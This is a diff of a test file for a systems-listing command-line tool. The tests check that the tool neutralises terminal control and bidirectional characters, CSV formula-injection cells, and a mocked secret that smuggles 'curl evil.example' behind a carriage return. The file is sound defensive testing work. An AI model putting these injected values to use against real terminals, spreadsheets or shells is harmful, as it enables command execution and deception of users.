@@ -3,10 +3,10 @@ import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, test } from 'vitest';
-import { aHome, open, programPath, runWithoutTerminalIn } from '../support/program.ts';
+import { aHome, open, programPath } from '../support/program.ts';
 import { aService, aSystem, onRequest, systemsCalled } from '../support/service.ts';
 import { aSmallDisk, canMount, fillBut } from '../support/small-disk.ts';
-import { aUserIn, environmentFor, row, userAt } from '../support/user.ts';
+import { aUserIn, aUserOf, environmentFor, row, runAt, userAt } from '../support/user.ts';
 
 /** An 8-bit CSI that sets the title, an 8-bit OSC, DEL, a direction, a mark of format. */
 const hostile = 'web\u009b21t\u009d0;owned\u009c\u007f\u202e\u200b';
@@ -24,7 +24,7 @@ const aHostileService = () =>
 
 test('JSON, CSV and table on a pipe hold no control of either set and none of direction; JSON keeps the value', async () => {
   const service = await aHostileService();
-  const printed = async (format: string) => runWithoutTerminalIn(environmentFor(service), 'systems', format);
+  const printed = async (format: string) => runAt(service, 'systems', format);
   const json = await printed('--json');
   expect(json.exitCode).toBe(0);
   expect(json.output).not.toMatch(unsafe);
@@ -41,7 +41,7 @@ test('JSON, CSV and table on a pipe hold no control of either set and none of di
 
 test('a cell of the CSV that shows nothing before = + - @ is text', async () => {
   const service = await aHostileService();
-  const { output } = await runWithoutTerminalIn(environmentFor(service), 'systems', '--csv');
+  const { output } = await runAt(service, 'systems', '--csv');
   const rows = parse<Record<string, string>>(output, { columns: true });
   const cells = rows.flatMap(({ description, tags, connectedFrom }) => [description, tags, connectedFrom]);
   expect(cells).toEqual(expect.arrayContaining([`' =1+1`, `'␉@SUM(A1)`, `'‹U+200B›+1`, `'‹U+00A0›-1`]));
@@ -71,7 +71,7 @@ test('exported files and what is copied hold them made visible, and one line for
 });
 
 test('a secret with characters that a shell acts on is not copied, and that is said', async () => {
-  const service = await aService({
+  const { user } = await aUserOf({
     systems: [aSystem({ hostname: 'web-1' })],
     intercept: onRequest('POST', () => ({
       status: 201,
@@ -79,11 +79,8 @@ test('a secret with characters that a shell acts on is not copied, and that is s
       body: JSON.stringify({ id: 7, description: 'tills', key: 'abc\rcurl evil.example' }),
     })),
   });
-  const user = await aUserIn('Northwind', service);
   await user.presses('create an enrolment key').sees('description');
-  user.types('tills');
-  await user.rests();
-  await user.presses('create the key').sees('Enrolment key created');
+  await user.createsKey('tills', 'Enrolment key created');
   user.presses('copy the secret');
   await user.sees('Not copied: the secret holds control or invisible characters. v shows it.');
   expect(copied(user.terminal.raw())).toEqual([]);
@@ -150,13 +147,9 @@ async function aUserOnASmallDisk(left: number, stateIn = '') {
   const home = aHome();
   const disk = join(home.path, 'disk');
   aSmallDisk(disk, 256);
-  const env = {
-    ...home.env,
-    ...environmentFor(service),
-    ...(stateIn !== '' && { XDG_STATE_HOME: join(disk, stateIn) }),
-  };
-  const terminal = open(process.execPath, [programPath], { cwd: disk, env });
-  const user = userAt(terminal, home);
+  const state = stateIn !== '' && { XDG_STATE_HOME: join(disk, stateIn) };
+  const env = { ...home.env, ...environmentFor(service), ...state };
+  const user = userAt(open(process.execPath, [programPath], { cwd: disk, env }), home);
   await user.opens('Northwind');
   await user.sees('200 systems');
   fillBut(disk, left);
